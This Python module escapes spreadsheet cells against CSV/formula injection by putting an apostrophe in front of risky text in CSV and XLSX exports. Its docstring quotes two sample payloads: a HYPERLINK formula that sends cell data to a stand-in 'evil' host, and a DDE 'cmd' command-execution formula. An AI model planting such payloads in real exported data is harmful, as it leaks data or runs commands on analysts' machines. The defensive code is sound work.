"""Cells that spreadsheets will not run as formulas (CSV/formula injection).

Imported data is untrusted: a campaign named ``=HYPERLINK("http://evil/?"&A1)`` or a product
``=cmd|' /C calc'!A0`` would run in the analyst's spreadsheet if written as is. Every CSV and
XLSX the product writes passes its text cells through :func:`safe_cell` (or a whole polars
frame through :func:`safe_frame`), which prefixes risky text with an apostrophe, the marker
spreadsheets read as "this is text". Real numbers such as ``-12.5`` are left alone.
"""

from __future__ import annotations

import polars as pl

#: First characters that make Excel, LibreOffice or Google Sheets evaluate a cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_RISKY = r"^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]"


def safe_cell(value) -> str:
    """The text of ``value`` with an apostrophe in front if a spreadsheet would run it."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _is_number(text):
        return "'" + text
    return text


def safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every text column escaped like :func:`safe_cell` (other types unchanged)."""
    text_columns = [name for name, dtype in frame.schema.items() if dtype in (pl.String, pl.Categorical)]
    if not text_columns:
        return frame
    return frame.with_columns(
        [
            pl.when(
                pl.col(name).cast(pl.String).str.contains(_RISKY)
                & pl.col(name).cast(pl.String).str.strip_chars().cast(pl.Float64, strict=False).is_null()
            )
            .then(pl.lit("'") + pl.col(name).cast(pl.String))
            .otherwise(pl.col(name).cast(pl.String))
            .alias(name)
            for name in text_columns
        ]
    )


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
